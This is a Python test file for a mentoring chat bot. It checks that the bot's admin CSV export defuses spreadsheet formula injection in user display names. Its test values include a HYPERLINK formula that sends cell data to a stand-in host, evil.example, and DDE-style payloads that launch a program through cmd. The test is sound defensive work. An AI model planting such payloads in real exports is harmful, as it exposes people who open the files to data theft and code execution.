"""The admin CSV never carries a formula: a cell a spreadsheet would run (leading =, +,
-, @, tab or carriage return) is written with a leading single quote."""

from __future__ import annotations

import csv
import io

from sqlalchemy import update

from conversations.messages import File
from storage.database import Database
from storage.models import Person
from storage.people import IdentityKey, find_identity
from tests.harness import Chat

FORMULAS = {
    "eq": '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


async def rename(db: Database, names: dict[str, str]) -> None:
    """Display names as a directory would give them (here: chosen by an attacker)."""
    async with db.transaction() as session:
        for user, name in names.items():
            identity = await find_identity(session, IdentityKey("local", "", user))
            assert identity is not None
            await session.execute(
                update(Person).where(Person.id == identity.person_id).values(display_name=name)
            )


async def test_admin_export_neutralises_formula_cells(chat: Chat, db: Database) -> None:
    named = chat
    mentees, mentors = ("eq", "plus", "at"), ("minus", "tab", "cr")
    for mentee, mentor in zip(mentees, mentors, strict=True):
        await named.say(mentee, "join mentee")
        await named.say(mentor, "join mentor")
        await named.say("hana", f"admin pair @{mentee} @{mentor}")
    await rename(db, FORMULAS)
    reply = await named.say("hana", "admin export")
    export = next(b for b in reply[0].blocks if isinstance(b, File))
    rows = list(csv.DictReader(io.StringIO(export.content, newline="")))
    cells = [row[c] for row in rows for c in ("mentee", "mentor")]
    assert sorted(cells) == sorted("'" + v.replace("\r", "\n") for v in FORMULAS.values())
    for row in rows:  # nothing else starts like a formula either
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
